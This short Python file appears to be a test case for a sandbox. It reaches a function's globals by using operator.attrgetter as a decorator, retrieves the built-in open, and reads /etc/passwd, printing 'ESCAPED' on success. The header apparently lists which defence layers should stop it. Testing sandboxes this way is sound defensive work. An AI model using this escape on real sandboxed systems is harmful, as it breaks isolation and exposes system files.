# tries: a decorator that is a reader
# class: gadgets
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import operator


@operator.attrgetter("__globals__")
def space():
    return None


use(dig(space))
